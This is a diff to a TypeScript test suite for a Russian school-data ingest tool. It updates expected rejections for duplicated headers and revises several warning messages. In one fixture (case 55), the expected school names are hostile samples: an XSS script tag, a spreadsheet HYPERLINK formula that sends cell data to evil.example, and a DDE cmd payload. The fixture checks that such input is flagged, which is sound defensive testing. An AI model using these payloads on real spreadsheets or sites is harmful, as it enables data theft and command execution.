@@ -81,10 +81,12 @@ const CASES: Case[] = [
   { file: '32-статистика по отметкам только шапка.xlsx', status: 'rejected', format: 'fisoko-mark-stats', message: /нет ни одной строки с данными/ },
   { file: '33-целевые показатели только шапка.xlsx', status: 'rejected', format: 'programme-targets', message: /нет ни одной строки с данными/ },
 
-  // --- duplicated headers (35, 36: parser gaps, see the describe below)
+  // --- duplicated headers: the file is rejected, naming the sheet (none for CSV), the row and both columns
   { file: VPR21('34 повтор столбца задания'), status: 'rejected', format: 'fisoko-vpr-2021', message: /задание «3» встречается в шапке дважды/ },
-  { file: '35-реестр ОО повтор столбца Код ОО.xlsx', status: 'loaded', format: 'school-registry', table: 'schools', loaded: 2 },
-  { file: '36-ведомость повтор столбца Отметка.csv', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 4 },
+  { file: '35-реестр ОО повтор столбца Код ОО.xlsx', status: 'rejected', format: 'school-registry',
+    message: /лист «Реестр», строка 1: столбец «Код ОО» встречается в шапке дважды — «Код ОО» \(A\) и «Код ОО» \(C\)/ },
+  { file: '36-ведомость повтор столбца Отметка.csv', status: 'rejected', format: 'journal-vedomost',
+    message: /«36-ведомость повтор столбца Отметка\.csv», строка 1: столбец «Отметка» встречается в шапке дважды — «Отметка» \(G\) и «Отметка» \(H\)/ },
 
   // --- values out of range: the row goes, the others load
   { file: VPR21('37 ошибки в строках'), status: 'loaded', format: 'fisoko-vpr-2021', table: 'pupil_results', loaded: 6, rowErrors: [
@@ -103,7 +105,8 @@ const CASES: Case[] = [
   { file: '42-data-9722 отрицательные и дробные.csv', status: 'loaded', format: 'moscow-ege-9722', table: 'aggregate_results', loaded: 2, rowErrors: [
     { row: 3, column: /PASSED_NUMBER_FULL/ }, { row: 4, column: /PASSED_NUMBER_FULL/ }, { row: 5, column: /PASSES_OVER_220/ }, { row: 6, column: /PASSES_OVER_220/ }] },
   { file: '43-сравнение отметок с журналом отрицательные и дробные.xlsx', status: 'loaded', format: 'fisoko-mark-comparison', table: 'aggregate_results', loaded: 3, rowErrors: [
-    { sheet: 'Сравнение отметок', row: 24, column: /Кол-во участников/ }, { sheet: 'Сравнение отметок', row: 29, column: /Кол-во участников/ }, { sheet: 'Сравнение отметок', row: 32, column: /Кол-во участников/ }] },
+    { sheet: 'Сравнение отметок', row: 24, column: /Кол-во участников/ }, { sheet: 'Сравнение отметок', row: 29, column: /Кол-во участников/ }, { sheet: 'Сравнение отметок', row: 32, column: /Кол-во участников/ }],
+    warnings: [/строка 25, столбец «% \(C\)»: процент 112,5 вне диапазона 0–100/] },
   { file: '44-реестр ОО смешанные разделители.csv', status: 'loaded', format: 'school-registry', table: 'schools', loaded: 2, rowErrors: [{ row: 4, column: /Численность обучающихся/ }],
     check: async (s) => {
       const rows = await q(s, `SELECT school_code, enrolment, round(ovz_share, 6) AS ovz, round(nonnative_share, 6) AS nn FROM schools WHERE school_code IN ('9401', '9402', '9403') ORDER BY 1`);
@@ -122,13 +125,14 @@ const CASES: Case[] = [
   { file: VPR22('46 дата загрузки в будущем'), status: 'rejected', format: 'fisoko-vpr-2022', message: /2098\/99 учебный год ещё не начался/ },
   { file: '47-ведомость будущий учебный год.csv', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 14,
     rowErrors: [{ row: 2, column: /Учебный год/ }, { row: 7, column: /Учебный год/ }] },
-  { file: '48-статистика по отметкам дата в будущем.xlsx', status: 'rejected', format: 'fisoko-mark-stats', message: /ни одна строка не прошла проверку.*строка 9, поле «Дата»: дата проведения 2099-04-16 ещё не наступила/,
-    rowErrors: [{ sheet: 'Статистика по отметкам', row: 9, column: /Дата/ }] },
+  { file: '48-статистика по отметкам дата в будущем.xlsx', status: 'rejected', format: 'fisoko-mark-stats',
+    message: /лист «Статистика по отметкам», строка 2: в заголовке отчёта ФИС ОКО дата проведения 16\.04\.2099 — она ещё не наступила/ },
 
   // --- unknown subjects, grades, schools
-  { file: 'Проведение работы по астрономии, 10 класс. ВПР 2021 49 неизвестный предмет.xlsx', status: 'rejected', format: 'fisoko-vpr-2021', message: /Не удалось определить предмет/ },
+  { file: 'Проведение работы по астрономии, 10 класс. ВПР 2021 49 неизвестный предмет.xlsx', status: 'rejected', format: 'fisoko-vpr-2021',
+    message: /в имени файла предмет «по астрономии» не распознан — Ориентир знает предметы «Русский язык», «Математика», .*«География»/ },
   { file: '50-ведомость неизвестный предмет и класс.csv', status: 'loaded', format: 'journal-vedomost', table: 'journal_marks', loaded: 15,
-    rowErrors: [{ row: 4, column: /Класс/ }], warnings: [/строка 2, поле «Предмет»: предмет «Астрология» не распознан/] },
+    rowErrors: [{ row: 4, column: /Класс/ }], warnings: [/^Строка 2, поле «Предмет»: предмет «Астрология» не распознан/m] },
   { file: VPR21('51 неизвестная ОО'), status: 'loaded', format: 'fisoko-vpr-2021', table: 'pupil_results', loaded: 5, warnings: [/ОО «sch229999» нет в реестре/] },
   { file: '52-целевые показатели неизвестный показатель и класс.xlsx', status: 'loaded', format: 'programme-targets', table: 'program_targets', loaded: 1, rowErrors: [
     { sheet: 'Цели', row: 3, column: /Показатель/ }, { sheet: 'Цели', row: 4, column: /Класс/ }, { sheet: 'Цели', row: 5, column: /Предмет/ }] },
@@ -142,8 +146,8 @@ const CASES: Case[] = [
 
   // --- markup and spreadsheet formulas in names: stored verbatim, reported
   { file: '55-реестр ОО XSS и формулы.csv', status: 'loaded', format: 'school-registry', table: 'schools', loaded: 6,
-    warnings: [/строка 2, поле «Наименование»: .*HTML-разметку/, /строка 3, поле «Наименование»: .*формула/, /строка 4, поле «Наименование»: значение «\+1»/,
-      /строка 5, поле «Наименование»: значение «@SUM/, /строка 6, поле «Муниципалитет»: .*HTML-разметку/],
+    warnings: [/^Строка 2, поле «Наименование»: .*HTML-разметку/m, /^Строка 3, поле «Наименование»: .*формула/m, /^Строка 4, поле «Наименование»: значение «\+1»/m,
+      /^Строка 5, поле «Наименование»: значение «@SUM/m, /^Строка 6, поле «Муниципалитет»: .*HTML-разметку/m],
     check: async (s) => {
       const rows = await q(s, `SELECT school_code, name, municipality FROM schools WHERE school_code BETWEEN '9701' AND '9706' ORDER BY 1`);
       expect(rows.map((r) => r.name)).toEqual(['<script>alert("xss")</script>', '=HYPERLINK("http://evil.example/?d="&A1;"Школа")', '+1', "@SUM(1+1)*cmd|' /C calc'!A0", 'МБОУ «Энская СОШ № 75»', 'МБОУ «Энская СОШ № 76»']);
@@ -203,6 +207,10 @@ describe.each(CASES)('$file → $status', (c) => {
     expect(text).toContain(`«${base}»`);
     if (c.format !== undefined) expect(r.format).toBe(c.format);
     for (const i of r.issues) expect(i.message, JSON.stringify(i)).toMatch(CYRILLIC);
+    // A CSV has no sheets: nothing names the one the reader makes up from the file name.
+    const pseudoSheet = base.replace(/\.[^.]+$/, '');
+    expect(text.toLowerCase()).not.toContain(`лист «${pseudoSheet.toLowerCase()}»`);
+    expect(r.issues.filter((i) => i.sheet === pseudoSheet)).toEqual([]);
 
     const rows = await ledger(store);
     expect(rows).toHaveLength(uploadsBefore + 1);
@@ -261,17 +269,19 @@ describe('the preloaded samples survive the whole corpus', () => {
   });
 });
 
-// Parser gaps (ingest/formats/*, not the loader): a duplicated header column is read from its first occurrence
-// without a word. When the parsers reject such files, flip these to `it`.
-describe('known parser gaps: duplicated header columns', () => {
+// A duplicated header column used to be read from its first occurrence without a word (parser gaps, now closed).
+describe('duplicated header columns', () => {
   let fresh: Store;
   beforeAll(async () => { fresh = await openStore(':memory:'); });
   afterAll(async () => closeStore(fresh));
-  const rejectsDuplicate = async (file: string, column: string) => {
+  const rejectsDuplicate = async (file: string, column: string, sheet: string | null, letters: [string, string]) => {
     const r = await ingestFile(fresh, FORMATS, { bytes: readFileSync(join(BAD_DIR, file)), fileName: file, channel: 'cli' });
     expect(r.status).toBe('rejected');
     expect(r.message).toContain(`«${column}»`);
+    expect(r.message).toContain(`Файл «${file}», ${sheet ? `лист «${sheet}», ` : ''}строка 1: столбец «${column}» встречается в шапке дважды — «${column}» (${letters[0]}) и «${column}» (${letters[1]})`);
+    if (!sheet) expect(r.message).not.toMatch(/лист/i);
+    expect(r.issues.filter((i) => i.scope === 'file').map((i) => [i.sheet, i.rowNo, i.column])).toEqual([[sheet, 1, column]]);
   };
-  it.fails('registry (reference/registry.ts): two «Код ОО» columns', () => rejectsDuplicate('35-реестр ОО повтор столбца Код ОО.xlsx', 'Код ОО'));
-  it.fails('ведомость (journal/vedomost.ts): two «Отметка» columns with different marks', () => rejectsDuplicate('36-ведомость повтор столбца Отметка.csv', 'Отметка'));
+  it('registry (reference/registry.ts): two «Код ОО» columns', () => rejectsDuplicate('35-реестр ОО повтор столбца Код ОО.xlsx', 'Код ОО', 'Реестр', ['A', 'C']));
+  it('ведомость (journal/vedomost.ts): two «Отметка» columns with different marks', () => rejectsDuplicate('36-ведомость повтор столбца Отметка.csv', 'Отметка', null, ['G', 'H']));
 });
